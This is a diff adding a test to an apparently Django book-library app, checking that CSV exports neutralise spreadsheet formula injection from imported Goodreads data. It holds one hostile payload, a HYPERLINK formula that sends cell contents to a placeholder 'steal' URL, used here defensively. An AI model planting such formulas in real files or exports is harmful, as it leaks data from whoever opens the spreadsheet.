@@ -115,3 +115,42 @@ def test_anonymous_readers_get_no_export(client, reader):
     response = client.get(reverse("accounts:library-export"))
     assert response.status_code == 302
     assert response["Location"].startswith(reverse("account_login"))
+
+
+def test_a_formula_another_reader_imported_comes_out_of_an_export_as_text(
+    client, reader, other_reader
+):
+    """Ada imports a book whose title is a formula; Grace shelves that book and exports her
+    library: the cell is text to a spreadsheet, and importing it gives back the title."""
+    formula = '=HYPERLINK("http://x/steal?d="&A1,"Click me")'
+    row = dict.fromkeys(COLUMNS, "") | {
+        "Book Id": "99",
+        "Title": formula,
+        "Author": "+Mallory",
+        "My Rating": "3",
+        "Exclusive Shelf": "read",
+        "My Review": "-- a dash first",
+    }
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
+    writer.writeheader()
+    writer.writerow(row)
+    client.force_login(reader)
+    upload(client, out.getvalue())
+    book = Book.objects.get(goodreads_id="99")
+    assert book.title == formula
+    shelf_set(user=other_reader, book=book, shelf=ShelfEntry.Shelf.READ)
+
+    client.force_login(other_reader)
+    exported = download(client)
+    (written,) = read_csv(exported)[1]
+    assert written["Title"] == f"'{formula}"
+    assert written["Author"] == "'+Mallory"
+
+    # Ada's own export, imported again: nothing changes, the text comes back as it was.
+    client.force_login(reader)
+    mine = download(client)
+    assert read_csv(mine)[1][0]["My Review"] == "'-- a dash first"
+    job = upload(client, mine)
+    assert (job.report["unchanged"], job.report["errors"]) == (1, [])
+    assert Book.objects.get(goodreads_id="99").title == formula
